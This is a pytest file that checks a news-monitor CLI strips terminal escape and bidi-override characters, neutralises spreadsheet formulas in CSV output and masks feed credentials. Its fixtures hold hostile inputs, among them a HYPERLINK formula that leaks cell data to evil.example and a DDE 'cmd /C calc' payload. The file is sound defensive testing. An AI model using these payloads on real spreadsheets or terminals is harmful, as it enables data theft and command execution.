"""What people see is safe (issue 15): untrusted text never reaches a terminal with its
controls or bidi overrides, `hits --csv` cells are never spreadsheet formulas, and a feed
URL's credentials never show (each on SQLite and PostgreSQL, through the real commands)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from email.policy import default as email_policy
from email.utils import format_datetime
from pathlib import Path

import pytest

from monitor.cli import main
from monitor.display import csv_cell, json_line, mask_url, mask_urls, safe
from tests.support import Reply, Server, rss

HOSTILE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
WATCHLIST = """watchlist: desk
entries:
  - {id: putin, kind: actor, name: Vladimir Putin, aliases: [Putin], priority: high}
"""


def _config(tmp_path: Path, db_url: str, feed: str, name: str = "Wire") -> str:
    (tmp_path / "desk.yaml").write_text(WATCHLIST)
    path = tmp_path / "monitor.yaml"
    path.write_text(f"""\
database: {db_url}
watchlists: {tmp_path / 'desk.yaml'}
fetch: {{timeout: 2s, allow_private_addresses: true}}
server: false
digests:
  - {{name: daily, send_empty: true, channels: [{{file: {{dir: {tmp_path / 'outbox'}}}}}]}}
alerts:
  channels: [{{file: {{dir: {tmp_path / 'alerts'}}}}}]
feeds:
  - {{url: "{feed}", {f"name: {json.dumps(name)}, " if name else ""}full_text: false}}
""")
    return str(path)


def _run(config: str, capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    main(["--config", config, *argv])
    out = capsys.readouterr()
    return out.out + out.err


# --- unit: the helpers --------------------------------------------------------------------

def test_safe_strips_controls_and_bidi_overrides() -> None:
    assert safe("a\x1b]0;owned\x07b\x1b[2Jc") == "a]0;ownedb[2Jc"
    assert safe("x\u202eevil\u202c \u2066y\u2069\x9b1m\x85z") == "xevil y1m z"
    assert safe("one\nline\ttab\r") == "one line tab "
    assert safe("Tô Lâm, 普京, Путин — “ok”") == "Tô Lâm, 普京, Путин — “ok”"


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("+1", "'+1"), ("-2+3", "'-2+3"),
    ("\x1b=cmd", "'=cmd"), ("Putin, Kim", "Putin, Kim"), (91.5, 91.5), (-1, -1)])
def test_csv_cells_are_never_formulas(cell: object, written: object) -> None:
    assert csv_cell(cell) == written


def test_urls_are_shown_without_credentials() -> None:
    url = "http://user:pa55@feeds.example/rss?token=t0k&page=2&api_key=k3y#sig=s1g"
    assert mask_url(url) == "http://***@feeds.example/rss?token=***&page=2&api_key=***#sig=***"
    assert mask_url("https://feeds.example/rss?author=me") == "https://feeds.example/rss?author=me"
    assert mask_url("postgresql://u:pw@h/db", keep_user=True) == "postgresql://u:***@h/db"
    assert mask_urls("refused to follow a redirect to 'http://a:b@h/x?Signature=z'") == (
        "refused to follow a redirect to 'http://***@h/x?Signature=***'")


def test_json_lines_escape_what_a_terminal_acts_on_and_keep_the_data() -> None:
    data = {"title": "a\x1b[2J\x9b\u202eb"}
    line = json_line(data)
    assert not HOSTILE.search(line) and json.loads(line) == data


# --- the commands -------------------------------------------------------------------------

def _hostile_feed(server: Server) -> str:
    server.routes["/feed"] = Reply(200, rss([{
        "title": "Putin \x1b]0;owned\x07lands \x1b[2J\u202eKim\u202c \u2066x\u2069",
        "link": server.url("/a"), "guid": "a",
        # an hour before the poll: news (an older page would be stored but not notified)
        "pubDate": format_datetime(datetime.now(UTC) - timedelta(hours=1), usegmt=True),
        "description": "Putin met \x1b[31mKim\x1b[0m in \u202ePyongyang\u202c on Wednesday."}]))
    return server.url("/feed")


def test_untrusted_text_never_reaches_the_terminal_raw(
        server: Server, db_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    config = _config(tmp_path, db_url, _hostile_feed(server), "Wire\x1b[8m\u202e")
    said = [_run(config, capsys, "poll", "--once")]
    assert "articles new 1" in said[0]
    text = tmp_path / "saved\x1b]0;x\x07.txt"
    text.write_text("Vladimir\x1bPutin and \u202ePutin\u202c spoke.")
    for argv in (["articles"], ["hits"], ["hits", "--csv"], ["feeds", "list"], ["status"],
                 ["digest", "preview", "--text"], ["digest", "preview"],
                 ["digest", "send", "daily", "--now"], ["digests", "list"],
                 ["articles", "--json"], ["hits", "--json"], ["feeds", "list", "--json"],
                 ["status", "--json"], ["digests", "list", "--json"],
                 ["match", "--watchlist", str(tmp_path / "desk.yaml"), str(text)]):
        said.append(_run(config, capsys, *argv))
    assert all("Putin" in out for out in said[1:3]), said
    said = [out.replace("\r\n", "\n") for out in said]  # CSV's own line ends
    bad = [(i, HOSTILE.findall(out)) for i, out in enumerate(said) if HOSTILE.search(out)]
    assert bad == []
    # The alert's e-mail subject and every file the channels wrote are clean too.
    sent = sorted((tmp_path / "alerts").glob("*.eml")) + sorted((tmp_path / "outbox").glob("*"))
    assert sent
    for path in sent:
        text = path.read_text(encoding="utf-8")
        assert not HOSTILE.search(text.replace("\r\n", "\n").replace("\t", " ")), path
        if path.suffix == ".eml":
            message = message_from_bytes(path.read_bytes(), policy=email_policy)
            assert "Putin" in str(message["Subject"])
            assert not HOSTILE.search(str(message["Subject"]))


def test_hits_csv_cells_are_never_formulas(server: Server, db_url: str, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    server.routes["/feed"] = Reply(200, rss([{
        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Putin")',
        "link": server.url("/a?x=1"), "guid": "a",
        "description": "@SUM(1+1)*cmd|' /C calc'!A0 Putin spoke."}]))
    config = _config(tmp_path, db_url, server.url("/feed"), "+Wire")
    assert "articles new 1" in _run(config, capsys, "poll", "--once")
    rows = list(csv.DictReader(io.StringIO(_run(config, capsys, "hits", "--csv"))))
    assert len(rows) == 1
    for value in rows[0].values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), rows[0]
    assert rows[0]["title"].startswith("'=HYPERLINK(") and rows[0]["snippet"].startswith("'@SUM")
    assert rows[0]["matched"] == "Putin"


FEED_PASSWORD, FEED_TOKEN = "feedpass-K4q9", "feedtoken-P2w7"


def test_feed_credentials_never_show(server: Server, db_url: str, tmp_path: Path,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    server.routes["/feed"] = Reply(503, b"down")
    url = server.url(f"/feed?token={FEED_TOKEN}&edition=int").replace(
        "http://", f"http://reader:{FEED_PASSWORD}@")
    config = _config(tmp_path, db_url, url, "")
    said = [_run(config, capsys, "poll", "--once")]
    assert "HTTP 503" in said[0]
    for argv in (["feeds", "list"], ["feeds", "list", "--json"], ["status"],
                 ["status", "--json"], ["digest", "preview", "--text"],
                 ["digest", "send", "daily", "--now"], ["digests", "list"],
                 ["run", "--once", "--log-format", "json"], ["run", "--once"],
                 ["poll", "--once", "--all"], ["feeds", "add", url],
                 ["poll", "--once", "--feed", url + "&x=2"]):  # no such feed: an error
        said.append(_run(config, capsys, *argv))
    written = [p.read_text(encoding="utf-8") for p in sorted((tmp_path / "outbox").glob("*"))]
    assert written and any("Source health" in text for text in written)
    everything = "\n".join(said + written)
    assert "HTTP 503" in everything and "token=***" in everything and "***@" in everything
    assert FEED_PASSWORD not in everything and FEED_TOKEN not in everything
    # The real URL is the one stored and polled.
    assert server.requests and all(FEED_TOKEN in r.path for r in server.requests)
    assert any(r.headers.get("authorization", "").startswith("Basic ")
               for r in server.requests)
